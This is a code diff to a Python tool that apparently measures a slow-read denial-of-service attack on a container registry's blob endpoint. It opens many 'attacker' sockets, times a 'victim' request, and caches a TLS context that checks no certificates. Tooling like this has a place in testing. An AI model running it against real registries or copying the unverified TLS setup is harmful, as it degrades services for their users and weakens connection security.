@@ -108,12 +108,21 @@ def split_base(base):
     return u.scheme, u.hostname, u.port
 
 
+_TLS_CONTEXTS = {}
+
+
 def insecure_tls(alpn):
-    ctx = ssl.create_default_context()
-    ctx.check_hostname = False
-    ctx.verify_mode = ssl.CERT_NONE
-    ctx.set_alpn_protocols(alpn)
-    return ctx
+    """A client TLS context that checks no certificate, offering ALPN `alpn`; made once per
+    `alpn` (building one loads the system CA store, tens of ms, which would otherwise be
+    charged to every victim request)."""
+    key = tuple(alpn)
+    if key not in _TLS_CONTEXTS:
+        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+        ctx.check_hostname = False
+        ctx.verify_mode = ssl.CERT_NONE
+        ctx.set_alpn_protocols(alpn)
+        _TLS_CONTEXTS[key] = ctx
+    return _TLS_CONTEXTS[key]
 
 
 def connection(base, timeout, source=None):
@@ -413,21 +422,23 @@ class Readers:
     def __init__(self, a):
         self.a = a
         _, self.host, self.port = split_base(a.base)
-        self.socks = []
-        self.outcome = {}
+        self.socks = {}          # attacker -> its socket
+        self.outcome = {}        # attacker -> what went wrong before its request was sent
 
     async def one(self, i):
         loop = asyncio.get_running_loop()
         s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
         s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.a.rcvbuf)
         s.setblocking(False)
-        self.socks.append(s)
+        self.socks[i] = s
+        self.outcome[i] = "not-started"
         try:
             bind_source(s, self.a, i)
             await asyncio.wait_for(loop.sock_connect(s, (self.host, self.port)), self.a.timeout)
             req = ("GET /v2/%s/blobs/%s HTTP/1.1\r\nHost: %s:%d\r\nAccept: */*\r\n\r\n"
                    % (self.a.repo, self.a.blob, self.host, self.port)).encode()
             await asyncio.wait_for(loop.sock_sendall(s, req), self.a.timeout)
+            del self.outcome[i]
         except asyncio.TimeoutError:
             self.outcome[i] = "connect-timeout"
         except OSError as e:
@@ -438,9 +449,10 @@ class Readers:
 
     def classify(self):
         out = []
-        for i, s in enumerate(self.socks):
-            if i in self.outcome:
-                out.append(self.outcome[i])
+        for i in range(self.a.count):
+            s = self.socks.get(i)
+            if s is None or i in self.outcome:
+                out.append(self.outcome.get(i, "not-started"))
                 continue
             try:
                 head = s.recv(64, socket.MSG_PEEK | socket.MSG_DONTWAIT)
@@ -461,7 +473,7 @@ class Readers:
         return out
 
     def close(self):
-        for s in self.socks:
+        for s in self.socks.values():
             s.close()
 
 
@@ -685,7 +697,13 @@ async def run_attack(a, res):
     victim = None
     try:
         t0 = time.monotonic()
-        await asyncio.wait_for(attack.launch(), a.setup_timeout)
+        launch = asyncio.ensure_future(attack.launch())
+        try:
+            await asyncio.wait_for(asyncio.shield(launch), a.setup_timeout)
+        except asyncio.TimeoutError:
+            # Attackers still connecting count as what they got so far ("not-started", ...).
+            launch.cancel()
+            res["setup_timed_out"] = 1
         res["setup_s"] = "%.3f" % (time.monotonic() - t0)
         victim = start_victim(a, a.duration)
         await asyncio.sleep(a.duration)
@@ -703,8 +721,6 @@ async def run_attack(a, res):
         if victim is not None:
             victim.kill()
             victim.wait()
-        if sys.exc_info()[0] is not None:
-            sampler.halt.set()
     for k, v in vres.items():
         res["victim_" + k] = v
     counts = {}
